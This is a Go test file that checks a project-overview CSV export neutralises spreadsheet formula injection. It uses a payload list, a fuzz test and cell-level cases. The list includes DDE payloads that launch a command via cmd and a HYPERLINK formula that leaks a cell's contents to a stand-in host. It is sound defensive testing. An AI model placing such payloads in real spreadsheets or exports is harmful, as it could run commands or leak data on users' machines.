package veiviser

import (
	"bytes"
	"encoding/csv"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/digitale-helgeland/veiviser/benefit"
	"github.com/digitale-helgeland/veiviser/phase"
	"github.com/digitale-helgeland/veiviser/stakeholder"
)

// plainNumber is a cell a spreadsheet reads as a number and nothing else:
// an optional minus, digits, and decimals after a comma or a point.
var plainNumber = regexp.MustCompile(`^-?[0-9]+([.,][0-9]+)?$`)

// formulaStart reports whether a spreadsheet may take cell for a formula:
// it begins with one of the characters OWASP lists (=, +, -, @, tab,
// carriage return) or a full-width form of the first four.
func formulaStart(cell string) bool {
	r, _ := utf8.DecodeRuneInString(cell)
	return strings.ContainsRune("=+-@\t\r\uFF1D\uFF0B\uFF0D\uFF20", r)
}

// formulaPayloads are cells an attacker might put in a project's text or a
// role holder's name, from OWASP's CSV injection page and its variants.
var formulaPayloads = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=\"a\";\"b\"",
	`=HYPERLINK("https://example.invalid/?"&A1,"Klikk")`, `-2+3+cmd|' /C calc'!A0`, `@cmd|'/c calc'!A0`,
	"\uFF1D1+1", "\uFF0B1", "\uFF0D1", "\uFF20SUM(A1)", "-", "+", "=", "-5e3", "+47 75 00 00 00", "-0x10", "--1",
}

// TestOverviewCSVNeutralisesFormulas writes an overview whose every text
// cell begins with a formula character and reads it back as a spreadsheet
// would split it (encoding/csv, after unquoting): no cell may begin with a
// formula character unless it is a plain number, every neutralised cell
// is the text with an apostrophe before it, and the negative investment
// and a note that is a plain negative number stay numbers.
func TestOverviewCSVNeutralisesFormulas(t *testing.T) {
	neg := -benefit.Kroner(5) - 7
	var ov Overview
	for _, p := range formulaPayloads {
		ov = append(ov, Row{
			Agency: p, Project: p, Description: p, Note: p,
			Phase: phase.Concept, Investment: &neg,
			Roles: stakeholder.Roles{{Role: stakeholder.ProjectOwner, Person: p}, {Role: stakeholder.ProjectManager, Person: p + "x"}},
		})
	}
	ov = append(ov, Row{Agency: "Etat", Project: "Tall", Note: "-12", Investment: &neg})
	for _, comma := range []rune{0, ';', '\t'} {
		b, err := ov.CSV(CSVOptions{Comma: comma})
		if err != nil {
			t.Fatal(err)
		}
		cr := csv.NewReader(bytes.NewReader(b))
		if comma != 0 {
			cr.Comma = comma
		}
		recs, err := cr.ReadAll()
		if err != nil {
			t.Fatalf("comma %q: %v", comma, err)
		}
		if len(recs) != len(ov)+1 {
			t.Fatalf("comma %q: %d records, want %d", comma, len(recs), len(ov)+1)
		}
		for i, rec := range recs {
			for j, cell := range rec {
				if formulaStart(cell) && !plainNumber.MatchString(cell) {
					t.Errorf("comma %q: record %d, cell %d (%s) begins a formula: %q", comma, i, j, csvHeadings[j].EN, cell)
				}
			}
		}
		for i, p := range formulaPayloads {
			rec := recs[i+1]
			// Role holders are written trimmed.
			holder := strings.TrimSpace(p)
			if formulaStart(holder) {
				holder = "'" + holder
			}
			for j, want := range map[int]string{0: "'" + p, 1: "'" + p, 2: "'" + p, 13: "'" + p, 11: holder, 12: holder + "x"} {
				if rec[j] != want {
					t.Errorf("comma %q: %s = %q, want %q", comma, csvHeadings[j].EN, rec[j], want)
				}
			}
			if rec[10] != "-5,07" {
				t.Errorf("comma %q: investment %q, want -5,07", comma, rec[10])
			}
		}
		if last := recs[len(recs)-1]; last[13] != "-12" {
			t.Errorf("comma %q: note %q, want the plain number -12", comma, last[13])
		}
	}
}

// FuzzCSVCell checks that whatever a text cell holds, it reads back from
// the CSV unchanged or with one apostrophe before it, and never as a
// formula.
func FuzzCSVCell(f *testing.F) {
	for _, p := range formulaPayloads {
		f.Add(p)
	}
	f.Add("Helt vanlig tekst, med \"sitat\"\n og linjeskift")
	f.Fuzz(func(t *testing.T, s string) {
		if !utf8.ValidString(s) {
			t.Skip("encoding/csv is for UTF-8")
		}
		ov := Overview{{Description: s}}
		b, err := ov.CSV(CSVOptions{Comma: ';'})
		if err != nil {
			t.Fatal(err)
		}
		cr := csv.NewReader(bytes.NewReader(b))
		cr.Comma = ';'
		recs, err := cr.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		got := recs[1][2]
		// encoding/csv writes \r\n inside a quoted field as \n when read.
		want := strings.ReplaceAll(s, "\r\n", "\n")
		if got != want && got != "'"+want {
			t.Errorf("cell %q reads back as %q", s, got)
		}
		if formulaStart(got) && !plainNumber.MatchString(got) {
			t.Errorf("cell %q reads back as a formula: %q", s, got)
		}
	})
}

func TestSpreadsheetCell(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "ja": "ja", "'=1": "'=1", " =1": " =1", "a=1": "a=1", "\u22121+1": "\u22121+1",
		"-5": "-5", "-5,07": "-5,07", "-5.07": "-5.07", "-12500000": "-12500000",
		"-5,": "'-5,", "-,5": "'-,5", "-5,0,7": "'-5,0,7", "-5 kr": "'-5 kr", "-": "'-", "-e": "'-e",
		"+5": "'+5", "=5": "'=5", "@5": "'@5", "\t5": "'\t5", "\r5": "'\r5", "\uFF1D5": "'\uFF1D5",
	} {
		if got := spreadsheetCell(in); got != want {
			t.Errorf("spreadsheetCell(%q) = %q, want %q", in, got, want)
		}
	}
}
